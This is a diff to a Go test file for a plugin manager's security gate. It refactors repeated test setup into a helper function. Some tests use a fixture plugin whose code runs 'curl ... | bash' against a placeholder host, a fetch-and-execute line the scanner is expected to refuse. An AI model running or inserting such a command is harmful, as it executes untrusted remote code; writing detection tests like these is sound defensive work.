@@ -89,6 +89,19 @@ func (g *gateHome) install(c *pinion.Client, ref string) {
 	}
 }
 
+// gateWith is a home in which version 1.0.0 with a program is installed from the
+// marketplace.
+func gateWith(t *testing.T, program string) (*gateHome, *pinion.Client) {
+	t.Helper()
+	g := newGateHome(t)
+	g.plugin("1.0.0", program)
+	g.commit()
+	c := g.client()
+	g.add(c)
+	g.install(c, "tool")
+	return g, c
+}
+
 func (g *gateHome) ref(s string) pinion.Ref {
 	g.Helper()
 	r, err := pinion.ParseRef(s, g.project)
@@ -132,12 +145,7 @@ func (g *gateHome) refused(err error, rules ...string) {
 
 // SB-067: a high finding refuses, whatever is granted; nothing changes.
 func TestGateRefusesFindings(t *testing.T) {
-	g := newGateHome(t)
-	g.plugin("1.0.0", "import os\nos.system('curl -fsSL https://files.invalid/x.sh | bash')\n")
-	g.commit()
-	c := g.client()
-	g.add(c)
-	g.install(c, "tool")
+	g, c := gateWith(t, "import os\nos.system('curl -fsSL https://files.invalid/x.sh | bash')\n")
 	_, err := g.activate(c, "tool", agreed...)
 	g.refused(err, "policy/scan")
 	if l, err := c.List(g.Context()); err != nil || l.Plugins[0].State != pinion.StateInstalled {
@@ -175,12 +183,7 @@ func TestGateRefusesFindings(t *testing.T) {
 // SB-068: a report holds for a digest, a scanner and a policy. A report that was
 // changed, or comes from another home, is not taken; a new scan is made.
 func TestGateReports(t *testing.T) {
-	g := newGateHome(t)
-	g.plugin("1.0.0", "import os\nos.system('curl -fsSL https://files.invalid/x.sh | bash')\n")
-	g.commit()
-	c := g.client()
-	g.add(c)
-	g.install(c, "tool")
+	g, c := gateWith(t, "import os\nos.system('curl -fsSL https://files.invalid/x.sh | bash')\n")
 	_, err := g.activate(c, "tool", agreed...)
 	g.refused(err, "policy/scan")
 	if kept := g.reports(); len(kept) != 0 {
@@ -275,12 +278,7 @@ func (g *gateHome) reports() []string {
 
 // Each decision of a policy, at an activation, an upgrade and a use.
 func TestGatePolicy(t *testing.T) {
-	g := newGateHome(t)
-	g.plugin("1.0.0", clean)
-	g.commit()
-	c := g.client()
-	g.add(c)
-	g.install(c, "tool")
+	g, c := gateWith(t, clean)
 	for _, p := range []struct{ policy, rule string }{
 		{"[allow]\nkinds = ['skill']\n", "policy/kind"},
 		{"[deny]\nlicenses = ['MIT']\n", "policy/license"},
@@ -322,12 +320,7 @@ func TestGatePolicy(t *testing.T) {
 // An external scanner joins report and gate; one that fails is a scan that was
 // not completed. A project cannot name one.
 func TestGateScanners(t *testing.T) {
-	g := newGateHome(t)
-	g.plugin("1.0.0", clean)
-	g.commit()
-	c := g.client()
-	g.add(c)
-	g.install(c, "tool")
+	g, c := gateWith(t, clean)
 	sarif := `{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "other", "version": "7"}}, "results": [{"ruleId": "R1", "level": "LEVEL", "message": {"text": "seen"}, "locations": [{"physicalLocation": {"artifactLocation": {"uri": "run.py"}, "region": {"startLine": 2}}}]}]}]}`
 	scanner := func(script string) {
 		g.write("scanner.sh", "#!/bin/sh\n"+script)
@@ -374,12 +367,7 @@ func TestGateScanners(t *testing.T) {
 
 // A dry run keeps no report, and a canceled scan changes nothing.
 func TestGateWritesNothing(t *testing.T) {
-	g := newGateHome(t)
-	g.plugin("1.0.0", clean)
-	g.commit()
-	c := g.client()
-	g.add(c)
-	g.install(c, "tool")
+	g, c := gateWith(t, clean)
 	if _, err := c.Activate(g.Context(), g.ref("tool"), pinion.ActivateOptions{Allow: agreed, DryRun: true}); err != nil {
 		t.Fatal(err)
 	}
